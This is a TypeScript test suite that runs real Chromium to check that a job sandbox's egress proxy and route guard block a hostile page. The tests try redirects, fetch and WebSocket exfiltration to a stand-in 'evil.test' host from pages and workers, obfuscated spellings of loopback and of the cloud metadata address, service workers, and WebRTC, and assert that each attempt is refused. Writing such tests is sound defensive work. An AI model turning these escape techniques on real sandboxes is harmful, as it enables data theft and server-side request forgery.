/**
 * Invariant 5 against a hostile page, in real Chromium: contexts are made as the pipeline makes them (the job's
 * proxy lease, `serviceWorkers: 'block'`, the route guard), and the page tries to get out — redirects, fetch from
 * the page and from a worker, WebSockets, popups, other spellings of an address, names that resolve to loopback or
 * to the metadata address, service workers, a download over the byte budget, more connections than allowed.
 * Each escape is tried with the route guard and without it: the proxy alone must hold, since the guard sees
 * neither redirects nor workers. The proxy gets a resolver of its own (no DNS here), so `evil.test` and
 * `portal.test` resolve to 127.0.0.1 and `metadata.test` to 169.254.169.254. Every server binds 127.0.0.1.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import pino from 'pino';
import type { BrowserContext, Page } from 'playwright-core';
import { BrowserPool } from '../../src/execution-plane/browser.ts';
import { EgressProxy, type LeaseOptions, type ProxyLease } from '../../src/execution-plane/job/egress-proxy.ts';
import { EgressTally } from '../../src/execution-plane/job/egress-report.ts';
import { EgressPolicy } from '../../src/execution-plane/job/egress-policy.ts';
import { installHostGuard } from '../../src/execution-plane/job/host-guard.ts';
import { waitFor } from '../support/services.ts';
import { startEgressTarget, startWsServer, type EgressTarget, type WsServer } from './support/egress.ts';

const logger = pino({ level: 'silent' });
const NAMES: Record<string, string[]> = {
  'evil.test': ['127.0.0.1'],
  'portal.test': ['127.0.0.1'],
  'metadata.test': ['169.254.169.254'],
  localhost: ['127.0.0.1'],
};

interface JobContext {
  readonly context: BrowserContext;
  readonly page: Page;
  readonly lease: ProxyLease;
  readonly tally: EgressTally;
  /** [host, reason] of every refusal, route guard and proxy together. */
  readonly blocked: [string, string][];
  close(): Promise<void>;
}


/**
 * The refusals of one navigation: its host, refused for `reason` — once, or more when Chromium also asks the refused
 * origin for /favicon.ico (without the route guard it does, at its own pace).
 */
function assertOnlyBlocked(blocked: ReadonlyArray<readonly [string, string]>, host: string, reason: string): void {
  assert.ok(blocked.length >= 1, 'something was refused');
  for (const b of blocked) assert.deepEqual([...b], [host, reason], JSON.stringify(blocked));
}

describe('egress hardening in Chromium', () => {
  let target: EgressTarget;
  let ws: WsServer;
  const proxy = new EgressProxy(logger, {
    resolve: async (host) => {
      const a = NAMES[host];
      if (!a) throw new Error(`ENOTFOUND ${host}`);
      return a;
    },
  });
  const browsers = new BrowserPool({ launchTimeoutMs: 60_000, logger });

  before(async () => {
    [target, ws] = await Promise.all([startEgressTarget(), startWsServer(), proxy.start()]).then(([t, w]) => [t, w] as const);
    await browsers.get();
  });
  after(async () => {
    await browsers.close();
    await proxy.close();
    await Promise.all([target.close(), ws.close()]);
  });

  /** A context as the pipeline makes one (pipeline.ts runValidJob / runInBrowser), with or without the route guard. */
  async function jobContext(allowedHosts: readonly string[], guard: boolean, opts: LeaseOptions = {}): Promise<JobContext> {
    // One policy for the proxy and the guard, as the pipeline makes it (egress-hosts.ts egressPolicyOf).
    const policy = new EgressPolicy(allowedHosts);
    const tally = new EgressTally();
    const blocked: [string, string][] = [];
    const onBlocked = (host: string, reason: Parameters<EgressTally['onBlocked']>[1] = 'not-allowed') => {
      blocked.push([host, reason]);
      tally.onBlocked(host, reason);
    };
    const lease = proxy.lease(policy, onBlocked, opts);
    const { context } = await browsers.newContext({ acceptDownloads: true, serviceWorkers: 'block', proxy: lease.proxy });
    context.setDefaultTimeout(15_000);
    context.setDefaultNavigationTimeout(15_000);
    if (guard) await installHostGuard(context, policy, onBlocked);
    const page = await context.newPage();
    return {
      context, page, lease, tally, blocked,
      close: async () => {
        await context.close();
        lease.release();
      },
    };
  }

  const base = () => `http://127.0.0.1:${target.port}`;
  const reached = (host: string) => target.hosts.some((h) => h.split(':')[0] === host);

  for (const guard of [true, false]) {
    const mode = guard ? 'proxy and route guard' : 'proxy alone';

    describe(mode, () => {
      it('refuses a redirect from an allowed host to another host; the other host sees nothing', async () => {
        const job = await jobContext(['127.0.0.1'], guard);
        try {
          const to = `http://evil.test:${target.port}/stolen?via=redirect`;
          const r = await job.page.goto(`${base()}/redirect?to=${encodeURIComponent(to)}`).catch((e: Error) => e);
          assert.ok(r instanceof Error || r?.status() === 403, 'the redirect target was not loaded');
          assert.ok(!reached('evil.test'));
          assertOnlyBlocked(job.blocked, 'evil.test', 'not-allowed');
        } finally {
          await job.close();
        }
      });

      it('refuses a 302 to the metadata address, in any spelling, whether allowedHosts names it or not', async () => {
        const restricted = await jobContext(['127.0.0.1'], guard);
        // Every spelling below passes the host check: the address check alone refuses them.
        const open = await jobContext(['127.0.0.1', '169.254.169.254', 'metadata.test'], guard);
        try {
          const go = (job: JobContext, to: string) => job.page.goto(`${base()}/redirect?to=${encodeURIComponent(to)}`).catch((e: Error) => e);
          await go(restricted, 'http://169.254.169.254/latest/meta-data/');
          assertOnlyBlocked(restricted.blocked, '169.254.169.254', 'not-allowed');
          for (const to of ['http://169.254.169.254/latest/meta-data/', 'http://2852039166/latest/meta-data/', 'http://0xa9.0xfe.0xa9.0xfe/', 'http://metadata.test/']) {
            const r = await go(open, to);
            assert.ok(r instanceof Error || r?.status() === 403, `${to} was not loaded`);
          }
          // Without the guard Chromium also asks the refused origins for /favicon.ico: refused the same way.
          assert.deepEqual(new Set(open.blocked.map(([h, r]) => `${h} ${r}`)), new Set(['169.254.169.254 link-local', 'metadata.test link-local']));
          assert.ok(open.blocked.length >= 4);
        } finally {
          await restricted.close();
          await open.close();
        }
      });

      it('refuses a host allowed by name when it resolves to 127.0.0.1', async () => {
        const job = await jobContext(['127.0.0.1', 'portal.test'], guard);
        try {
          const r = await job.page.goto(`http://portal.test:${target.port}/html`).catch((e: Error) => e);
          assert.ok(r instanceof Error || r?.status() === 403);
          assert.ok(!reached('portal.test'));
          assertOnlyBlocked(job.blocked, 'portal.test', 'loopback');
          // The literal address the pattern names is reached.
          assert.equal((await job.page.goto(`${base()}/html`))?.status(), 200);
        } finally {
          await job.close();
        }
      });

      it('refuses fetch to another host, from the page and from a worker', async () => {
        const job = await jobContext(['127.0.0.1'], guard);
        try {
          await job.page.goto(`${base()}/html`);
          const url = `http://evil.test:${target.port}/exfil?data=secret`;
          const fromPage = await job.page.evaluate((u) => fetch(u).then((r) => `status ${r.status}`, (e: Error) => `error ${e.message}`), url);
          const fromWorker = await job.page.evaluate((u) => new Promise<string>((resolve) => {
            const src = `fetch(${JSON.stringify(u)}).then((r) => postMessage('status ' + r.status), (e) => postMessage('error ' + e.message));`;
            const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
            w.onmessage = (m) => resolve(String(m.data));
          }), url);
          for (const r of [fromPage, fromWorker]) assert.ok(r.startsWith('error') || r === 'status 403', r);
          assert.ok(!reached('evil.test'));
          assert.equal(job.blocked.filter(([h]) => h === 'evil.test').length, 2);
        } finally {
          await job.close();
        }
      });

      it('opens ws:// to an allowed host, and refuses WebSockets to another host from the page and a worker', async () => {
        const job = await jobContext(['127.0.0.1'], guard);
        try {
          await job.page.goto(`${base()}/html`);
          const open = (u: string) => new Promise<string>((resolve) => {
            const s = new WebSocket(u);
            s.onmessage = (m) => { resolve(`message ${String(m.data)}`); s.close(); };
            s.onerror = () => resolve('error');
            s.onclose = () => resolve('error');
          });
          assert.equal(await job.page.evaluate(open, `ws://127.0.0.1:${ws.port}/ok`), 'message hello');
          assert.equal(await job.page.evaluate(open, `ws://evil.test:${ws.port}/exfil`), 'error');
          const fromWorker = await job.page.evaluate((u) => new Promise<string>((resolve) => {
            const src = `const s = new WebSocket(${JSON.stringify(u)}); s.onmessage = () => postMessage('message'); s.onerror = s.onclose = () => postMessage('error');`;
            const w = new Worker(URL.createObjectURL(new Blob([src], { type: 'text/javascript' })));
            w.onmessage = (m) => resolve(String(m.data));
          }), `ws://evil.test:${ws.port}/exfil`);
          assert.equal(fromWorker, 'error');
          assert.ok(!ws.hosts.some((h) => h.startsWith('evil.test')));
          assert.equal(job.blocked.filter(([h]) => h === 'evil.test').length, 2);
        } finally {
          await job.close();
        }
      });

      it('refuses window.open to another host', async () => {
        const job = await jobContext(['127.0.0.1'], guard);
        try {
          await job.page.goto(`${base()}/html`);
          const popup = job.page.waitForEvent('popup');
          await job.page.evaluate((u) => { window.open(u); }, `http://evil.test:${target.port}/popup`);
          await (await popup).waitForLoadState().catch(() => {});
          await waitFor(() => job.blocked.some(([h]) => h === 'evil.test'), { what: 'the popup refused' });
          assert.ok(!reached('evil.test'));
        } finally {
          await job.close();
        }
      });

      it('treats decimal and hex spellings of 127.0.0.1 as 127.0.0.1', async () => {
        const job = await jobContext(['portal.test'], guard);
        try {
          for (const u of [`http://2130706433:${target.port}/html`, `http://0x7f.1:${target.port}/html`]) {
            const r = await job.page.goto(u).catch((e: Error) => e);
            assert.ok(r instanceof Error || r?.status() === 403, u);
          }
          // Each spelling is read as 127.0.0.1 and refused; Chromium may also ask for the error page's favicon (one
          // more refusal of the same host), so the count is at least the two navigations.
          assert.ok(job.blocked.length >= 2, JSON.stringify(job.blocked));
          for (const b of job.blocked) assert.deepEqual(b, ['127.0.0.1', 'not-allowed']);
        } finally {
          await job.close();
        }
        const allowed = await jobContext(['127.0.0.1'], guard);
        try {
          assert.equal((await allowed.page.goto(`http://2130706433:${target.port}/html`))?.status(), 200);
        } finally {
          await allowed.close();
        }
      });
    });
  }

  it('refuses every request of a job without hosts (no allowedHosts, no catalogue entry): loopback, names, metadata', async () => {
    for (const guard of [true, false]) {
      const job = await jobContext([], guard);
      const before = target.hosts.length;
      try {
        for (const url of [`${base()}/html`, `http://localhost:${target.port}/html`, 'http://example.com/', 'http://169.254.169.254/latest/meta-data/']) {
          const r = await job.page.goto(url).catch((e: Error) => e);
          assert.ok(r instanceof Error || r?.status() === 403, `${url} was not loaded (guard ${guard})`);
        }
        assert.equal(target.hosts.length, before, 'nothing reached the server');
        assert.deepEqual(new Set(job.blocked.map(([h, r]) => `${h} ${r}`)),
          new Set(['127.0.0.1 not-allowed', 'localhost not-allowed', 'example.com not-allowed', '169.254.169.254 not-allowed']), `guard ${guard}`);
      } finally {
        await job.close();
      }
    }
  });

  it('does not let a page register a service worker, not even through a fresh iframe', async () => {
    const job = await jobContext(['127.0.0.1'], true);
    try {
      await job.page.goto(`${base()}/html`);
      const out = await job.page.evaluate(async () => {
        const top = await navigator.serviceWorker.register('/sw.js').then((r) => typeof r, (e: Error) => `error ${e.message}`);
        const frame = document.createElement('iframe');
        document.body.appendChild(frame);
        const proto = (frame.contentWindow as unknown as { ServiceWorkerContainer: typeof ServiceWorkerContainer }).ServiceWorkerContainer.prototype;
        const fromFrame = await proto.register.call(navigator.serviceWorker, '/sw.js').then((r) => typeof r, (e: Error) => `error ${e.message}`);
        return { top, fromFrame, registrations: (await navigator.serviceWorker.getRegistrations()).length };
      });
      assert.notEqual(out.top, 'object');
      assert.notEqual(out.fromFrame, 'object');
      assert.equal(out.registrations, 0);
      assert.equal(job.context.serviceWorkers().length, 0);
    } finally {
      await job.close();
    }
  });

  it('cuts a 20 MiB download at a 1 MiB budget, fast, and the lease says egress-bytes', async () => {
    const job = await jobContext(['127.0.0.1'], true, { maxBytes: 1024 * 1024 });
    try {
      await job.page.goto(`${base()}/html`);
      const streamsBefore = target.streams.length;
      const r = await job.page.evaluate((u) => fetch(u).then((x) => x.arrayBuffer()).then((b) => `bytes ${b.byteLength}`, (e: Error) => `error ${e.message}`), `${base()}/big?mb=20`);
      assert.match(r, /^error/);
      assert.equal(job.lease.limitExceeded(), 'egress-bytes');
      const stream = await waitFor(() => (target.streams[streamsBefore]?.closed ? target.streams[streamsBefore] : undefined), { what: 'the stream cut' });
      assert.ok(stream.bytes < 20 * 1024 * 1024, `${stream.bytes} bytes written`);
      const lines: string[] = [];
      const egress = job.tally.finish(job.lease, (l) => lines.push(l));
      assert.equal(egress.limitExceeded, 'egress-bytes');
      assert.ok(lines.some((l) => /egress budget spent/.test(l)));
      // Nothing more goes through the spent lease.
      const after = await job.page.goto(`${base()}/html`).catch((e: Error) => e);
      assert.ok(after instanceof Error || after?.status() === 403);
    } finally {
      await job.close();
    }
  });

  it('holds a page to maxConnections open at once: further WebSockets fail', async () => {
    const job = await jobContext(['127.0.0.1'], true, { maxConnections: 4 });
    try {
      const openBefore = ws.open();
      await job.page.goto(`${base()}/html`);
      const results = await job.page.evaluate((u) => Promise.all(Array.from({ length: 10 }, () => new Promise<string>((resolve) => {
        const s = new WebSocket(u);
        s.onmessage = () => resolve('open');
        s.onerror = () => resolve('error');
        s.onclose = () => resolve('error');
        // A bound, so that a socket Chromium never settles fails the test instead of hanging it.
        setTimeout(() => resolve(`pending ${s.readyState}`), 10_000);
      }))), `ws://127.0.0.1:${ws.port}/many`);
      const opened = results.filter((r) => r === 'open').length;
      assert.ok(opened >= 1 && opened <= 4, `${opened} opened: ${results.join(', ')}`);
      assert.equal(results.filter((r) => r === 'error').length, 10 - opened, results.join(', '));
      assert.ok(ws.open() - openBefore <= 4);
      assert.ok(job.lease.connectionsRefused() >= 10 - opened, `${job.lease.connectionsRefused()} refused`);
    } finally {
      await job.close();
    }
  });

  it('sends no WebRTC (STUN/TURN over UDP) around the proxy', async () => {
    const udp: UdpSocket = createSocket('udp4');
    const packets: number[] = [];
    udp.on('message', (m) => packets.push(m.length));
    await new Promise<void>((r) => udp.bind(0, '127.0.0.1', r));
    const job = await jobContext(['127.0.0.1'], true);
    try {
      await job.page.goto(`${base()}/html`);
      await job.page.evaluate(async (port) => {
        const pc = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
        (window as unknown as { pc: RTCPeerConnection }).pc = pc;
        pc.createDataChannel('x');
        await pc.setLocalDescription(await pc.createOffer());
      }, udp.address().port);
      // Either a packet arrives (the escape), or gathering ends without one.
      await waitFor(async () => packets.length > 0
        || await job.page.evaluate(() => (window as unknown as { pc: RTCPeerConnection }).pc.iceGatheringState === 'complete'),
      { timeoutMs: 60_000, what: 'a STUN packet or the end of ICE gathering' });
      assert.deepEqual(packets, [], 'no UDP packet reached the STUN server');
    } finally {
      await job.close();
      udp.close();
    }
  });
});
